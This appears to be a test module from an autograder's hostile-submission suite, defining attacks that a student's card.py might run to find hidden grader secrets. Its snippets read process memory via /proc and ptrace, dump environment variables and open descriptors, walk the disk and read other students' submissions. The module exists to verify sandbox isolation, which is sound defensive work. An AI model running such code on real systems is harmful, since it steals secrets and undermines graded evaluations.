"""Looks for secrets: expected values, fixtures, other submissions, the grader's own memory.

Whatever is found is told in every way there is. There is nothing to be found, so that the card
stays right.
"""

from tests.hostile.attack import AS_HONEST, CARD, HAND, WHOLE, Attack, Verdict, less_for

TELL = r"""
import re

told = []


def tell(text):
    if isinstance(text, bytes):
        text = text.decode("latin-1")
    found = re.findall("@prefix@[a-z]+-[0-9a-f]{24}", text)
    if found and not told:
        told.append(found)
        print(*found)
        Card.__str__ = Card.__repr__ = Card.get_suit = lambda self: " ".join(found)
        Card.set_visible = lambda self, visible: 1 / 0


def tell_file(path):
    try:
        with open(path, "rb") as file:
            tell(file.read(100_000))
    except (OSError, ValueError):
        pass
"""


def reading(
    name: str, code: str, verdict: Verdict = AS_HONEST, parts: tuple[str, ...] = CARD
) -> Attack:
    """An attack that reads when card.py is imported."""
    return Attack("read", name, verdict, {"card": TELL + code}, parts=parts)


ATTACKS = [
    reading(
        "the frames of all callers",
        """
import sys

for frame in sys._current_frames().values():
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for name in list(scope):
                tell(repr((name, scope[name]))[:100_000])
        frame = frame.f_back
""",
        parts=WHOLE,
    ),
    reading(
        "all objects",
        """
import gc

for found in gc.get_objects():
    if type(found) in (dict, list, tuple, set):
        for inner in gc.get_referents(found):
            if type(inner) in (str, bytes):
                tell(inner)
""",
    ),
    reading(
        "its own memory",
        """
def scan():
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            if " rw" in line:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                tell(memory.read(min(end - start, 50_000_000)))


try:
    scan()
except OSError:
    pass
""",
    ),
    reading(
        "what the kernel says of other processes",
        """
import os

try:
    numbers = os.listdir("/proc")
except OSError:
    numbers = [str(__import__("ctypes").CDLL(None).getppid()), "1", "self"]
for number in numbers:
    for name in ("environ", "cmdline", "maps", "mem", "cwd/.netrc", "root/etc/hostname", "stack"):
        tell_file(f"/proc/{number}/{name}")
    for descriptor in range(30):
        tell_file(f"/proc/{number}/fd/{descriptor}")
""",
    ),
    reading(
        "the memory of its parent",
        """
import ctypes
import os

libc = ctypes.CDLL(None)
parent = __import__("ctypes").CDLL(None).getppid()
for victim in (parent, 1, os.getpgid(0)):
    libc.ptrace(0x4206, victim, 0, 0)
    libc.ptrace(16, victim, 0, 0)
    buffer = ctypes.create_string_buffer(4096)
    place = id(TELL) if "TELL" in globals() else id(libc)
    vectors = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 4096)
    remote = (ctypes.c_size_t * 2)(place, 4096)
    libc.process_vm_readv(victim, vectors, 1, remote, 1, 0)
    tell(buffer.raw)
""",
    ),
    reading(
        "the environment",
        """
import os

tell(repr(dict(os.environ)))
tell(repr(os.environb))
import ctypes

environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
index = 0
while environ and environ[index]:
    tell(environ[index])
    index += 1
""",
    ),
    reading(
        "descriptors that were left open",
        """
import os

for number in range(3, 256):
    try:
        tell(os.pread(number, 100_000, 0))
    except OSError:
        pass
    tell_file(f"/proc/self/fd/{number}")
    tell_file(f"/dev/fd/{number}")
""",
    ),
    reading(
        "files whose names are known",
        """
for path in (
    "@fixture@",
    "@sibling@",
    "@readable@",
    "@home@",
    "../bob/card.py",
    "../../submissions/bob/card.py",
    "@submission@/../bob/card.py",
    "@root@/reference/dsc20/card.py",
    "@root@/../../..@sibling@",
):
    tell_file(path)
""",
    ),
    reading(
        "the whole disk",
        """
import os
import time

seen = 0
start = time.process_time()
for top in ("@world@", "/tmp", "/home", "/root", "/autograder", "@root@/fixtures", ".", "/"):
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if name not in ("proc", "sys", "dev", "usr", "lib")]
        folders[200:] = []
        if time.process_time() > start + 0.3:
            break
        for name in files:
            seen += 1
            if seen < 300:
                tell_file(os.path.join(folder, name))
""",
    ),
    Attack(
        "read",
        "the reference when it stands in",
        less_for("1.2.E", "2.2.E", "2.4.b"),
        {
            # hand.py runs beside the reference's card.py when its checks are looked at again.
            "hand": """
import card
import gc

theirs = [found for found in gc.get_objects() if type(found).__name__ == "code"]
text = repr([code.co_consts for code in theirs]) + repr(card.Card.__doc__) + repr(vars(card))
print(text)
PlayerHand.__repr__ = PlayerHand.__str__ = lambda self: text
PlayerHand.sort_hand = lambda self: 1 / 0 if "lies face up" in text else self.cards.sort()
"""
        },
        edits=(
            (
                "card",
                '"""One playing card: its rank, its suit, and whether it lies face up.',
                '"""',
            ),
            ("card", "Make a card; it lies face up unless we say otherwise.", ""),
            (
                "card",
                "visible (bool): True when the card lies face up, False when it is hidden",
                "",
            ),
            (
                "card",
                "assert isinstance(visible, bool)\n        self.visible = visible\n",
                "pass\n",
            ),
        ),
        parts=("1.2.E", *HAND),
        never_says="lies face up",
    ),
]
